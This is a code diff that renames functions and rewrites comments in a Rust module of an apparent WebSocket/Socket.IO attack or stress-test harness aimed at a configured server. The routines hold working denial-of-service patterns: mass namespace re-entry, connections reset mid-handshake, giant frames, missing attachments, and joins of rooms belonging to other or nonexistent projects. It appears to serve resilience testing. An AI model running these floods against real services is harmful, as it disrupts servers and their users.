@@ -1,4 +1,4 @@
-//! WebSockets that do what no client does.
+//! Attacks with WebSockets that behave as no client does.
 
 use std::io;
 
@@ -9,58 +9,58 @@ use tokio_tungstenite::tungstenite::Message;
 
 use crate::attacker::{Attacker, Socket};
 
-async fn send(socket: &mut Socket, packet: Message) -> io::Result<()> {
+async fn send_packet(socket: &mut Socket, packet: Message) -> io::Result<()> {
     socket.send(packet).await.map_err(io::Error::other)
 }
 
-async fn next(socket: &mut Socket) -> io::Result<Message> {
+async fn next_message(socket: &mut Socket) -> io::Result<Message> {
     socket.next().await.ok_or(io::ErrorKind::ConnectionReset)?.map_err(io::Error::other)
 }
 
-/// Asks to be let in, and waits for the answer.
-pub(super) async fn knock(attacker: &Attacker, number: usize, query: &str) -> io::Result<Socket> {
-    let mut socket = attacker.web_socket(number, query).await?;
-    send(&mut socket, Message::text("40")).await?;
-    while next(&mut socket).await?.to_text().is_ok_and(|text| !text.starts_with('4')) {}
+/// Opens a socket, sends CONNECT, and waits for the answer.
+pub(super) async fn open_namespace(attacker: &Attacker, number: usize, query: &str) -> io::Result<Socket> {
+    let mut socket = attacker.open_websocket(number, query).await?;
+    send_packet(&mut socket, Message::text("40")).await?;
+    while next_message(&mut socket).await?.to_text().is_ok_and(|text| !text.starts_with('4')) {}
     Ok(socket)
 }
 
-/// The same with the key.
-pub(super) async fn enter(attacker: &Attacker, number: usize) -> io::Result<Socket> {
-    knock(attacker, number, &format!("&api_key={}", attacker.target.key)).await
+/// Opens a socket with the attacker's key.
+pub(super) async fn open_with_key(attacker: &Attacker, number: usize) -> io::Result<Socket> {
+    open_namespace(attacker, number, &format!("&api_key={}", attacker.target.key)).await
 }
 
-/// Leaves the namespace and enters it again, as fast as it can.
-pub(super) async fn namespaces(attacker: &Attacker) {
+/// Leaves the namespace and rejoins it, as fast as possible.
+pub(super) async fn reentered_namespaces(attacker: &Attacker) {
     attacker
-        .many(100, async |number| {
-            let mut socket = enter(attacker, number).await?;
+        .repeat_in_parallel(100, async |number| {
+            let mut socket = open_with_key(attacker, number).await?;
             for _ in 0..1_000 {
-                attacker.count(|tally| tally.requests += 1);
-                send(&mut socket, Message::text("41")).await?;
-                send(&mut socket, Message::text("40")).await?;
-                next(&mut socket).await?;
+                attacker.update_tally(|tally| tally.requests += 1);
+                send_packet(&mut socket, Message::text("41")).await?;
+                send_packet(&mut socket, Message::text("40")).await?;
+                next_message(&mut socket).await?;
             }
             Ok(())
         })
         .await;
 }
 
-/// Connections that are reset before the server has said its first word.
-pub(super) async fn cut_early(attacker: &Attacker) {
+/// Opens connections and resets them before the server has sent its first packet.
+pub(super) async fn reset_before_first_packet(attacker: &Attacker) {
     let upgrade = "GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\n\
                    sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
     attacker
-        .many(100, async |number| {
+        .repeat_in_parallel(100, async |number| {
             let mut line = attacker.connect(number).await?;
-            attacker.count(|tally| tally.requests += 1);
+            attacker.update_tally(|tally| tally.requests += 1);
             line.stream.write_all(upgrade.as_bytes()).await?;
             line.stream.set_zero_linger()
         })
         .await;
 }
 
-/// The largest frames, attachments that never come, and attachments that nobody asked for.
+/// Sends the largest frames, announces attachments that never follow, and sends unannounced attachments.
 pub(super) async fn giant_frames(attacker: &Attacker) {
     let text = |text: String| Message::text(text);
     let frames = [
@@ -73,44 +73,45 @@ pub(super) async fn giant_frames(attacker: &Attacker) {
         vec![text(format!("42{}[\"heartbeat\"]", "9".repeat(100_000)))],
     ];
     attacker
-        .many(28, async |number| {
-            let mut socket = enter(attacker, number).await?;
+        .repeat_in_parallel(28, async |number| {
+            let mut socket = open_with_key(attacker, number).await?;
             for _ in 0..10 {
                 for frame in &frames[number % frames.len()] {
-                    attacker.count(|tally| tally.requests += 1);
-                    send(&mut socket, frame.clone()).await?;
+                    attacker.update_tally(|tally| tally.requests += 1);
+                    send_packet(&mut socket, frame.clone()).await?;
                 }
             }
-            next(&mut socket).await.map(drop)
+            next_message(&mut socket).await.map(drop)
         })
         .await;
 }
 
-/// Rooms of projects that exist, or belong to others, or do not exist.
-pub(super) async fn rooms(attacker: &Attacker) {
+/// Joins and leaves rooms of projects that exist, belong to others, or do not exist.
+pub(super) async fn joined_and_left_rooms(attacker: &Attacker) {
     attacker
-        .many(100, async |number| {
-            let mut socket = enter(attacker, number).await?;
+        .repeat_in_parallel(100, async |number| {
+            let mut socket = open_with_key(attacker, number).await?;
             for round in 0..600 {
-                attacker.count(|tally| tally.requests += 1);
+                attacker.update_tally(|tally| tally.requests += 1);
                 let id = if round % 2 == 0 { attacker.target.project.clone() } else { format!("{number}/{round}") };
                 let name = if round % 4 < 2 { "join_project" } else { "leave_project" };
-                send(&mut socket, Message::text(format!("42{round}{}", json!([name, {"project_id": id}])))).await?;
-                next(&mut socket).await?;
+                send_packet(&mut socket, Message::text(format!("42{round}{}", json!([name, {"project_id": id}]))))
+                    .await?;
+                next_message(&mut socket).await?;
             }
             Ok(())
         })
         .await;
 }
 
-/// Clients that connect, join and vanish.
-pub(super) async fn short(attacker: &Attacker) {
+/// Opens sockets that join and then end with a reset.
+pub(super) async fn sockets_reset_after_join(attacker: &Attacker) {
     let join = json!(["join_project", {"project_id": attacker.target.project}]);
     attacker
-        .many(100, async |number| {
-            let mut socket = enter(attacker, number).await?;
-            send(&mut socket, Message::text(format!("42{join}"))).await?;
-            next(&mut socket).await?;
+        .repeat_in_parallel(100, async |number| {
+            let mut socket = open_with_key(attacker, number).await?;
+            send_packet(&mut socket, Message::text(format!("42{join}"))).await?;
+            next_message(&mut socket).await?;
             socket.get_ref().set_zero_linger()
         })
         .await;
